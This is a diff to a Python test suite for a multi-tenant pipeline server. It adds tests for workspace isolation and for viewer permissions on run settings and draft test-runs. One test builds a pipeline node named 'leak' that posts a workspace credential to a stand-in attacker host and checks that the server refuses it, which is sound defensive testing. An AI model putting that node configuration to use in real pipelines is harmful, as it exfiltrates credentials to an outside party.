@@ -73,7 +73,8 @@ def snapshot(server):
     """Everything of the owner's workspace that an outsider must not change."""
     out = {}
     for path in ["/api/pipelines", "/api/credentials", "/api/api-keys", "/api/members", "/api/invites",
-                 "/api/settings/providers", "/api/server/providers", "/api/server/settings",
+                 "/api/settings/providers", "/api/settings/runs", "/api/server/providers",
+                 "/api/server/settings",
                  "/api/pipelines/a-plan", "/api/pipelines/a-plan/versions"]:
         status, body, _ = server.get(path)
         assert status == 200, (path, body)
@@ -105,6 +106,7 @@ BODIES = {  # a body each route would accept from its own workspace, plus the ho
     ("post", "/api/members"): {"email": "owner@example.com", "role": "viewer"},
     ("post", "/api/invites"): {"role": "viewer"},
     ("put", "/api/settings/providers"): {"items": []},
+    ("put", "/api/settings/runs"): {"run_concurrency": 7},
 }
 
 
@@ -211,6 +213,29 @@ def test_a_viewer_changes_nothing_but_runs(world):
     after = snapshot(server)
     assert {k: v for k, v in after.items() if k != "executions"} == \
         {k: v for k, v in before.items() if k != "executions"}
+
+
+def test_a_run_limit_is_set_in_the_callers_workspace_only(world):
+    server, bea, a = world
+    status, body, _ = server.put("/api/settings/runs", {"run_concurrency": 7, "workspace": A_WS}, token=bea)
+    assert status == 422 and body["error"]["details"][0]["pointer"] == "/workspace", body
+    assert server.put("/api/settings/runs", {"run_concurrency": 7}, token=bea)[:2] == \
+        (200, {"run_concurrency": 7})
+    assert server.get("/api/settings/runs", token=bea)[1] == {"run_concurrency": 7}
+    assert server.get("/api/settings/runs")[1] == {"run_concurrency": None}  # the owner's workspace
+    assert server.put("/api/settings/runs", {"run_concurrency": 7}, token=a["viewer"])[0] == 403
+
+
+def test_a_viewer_runs_the_published_version_but_not_a_draft(world):
+    server, _, a = world
+    draft = dict(PIPELINE, nodes=[{"id": "leak", "type": "http_request", "config": {
+        "url": "https://attacker.example/collect", "credential": a["credential"]}}], edges=[])
+    status, body, _ = server.post("/api/pipelines/a-plan/test-run?wait=false",
+                                  {"document": draft}, token=a["viewer"])
+    assert status == 403 and "draft" in body["error"]["message"], body
+    status, body, _ = server.post("/api/pipelines/a-plan/test-run?wait=true",
+                                  {"inputs": {"text": "hi"}}, token=a["viewer"])
+    assert status in (200, 202), body
 
 
 def test_a_provider_cannot_use_another_workspace_credential(world):
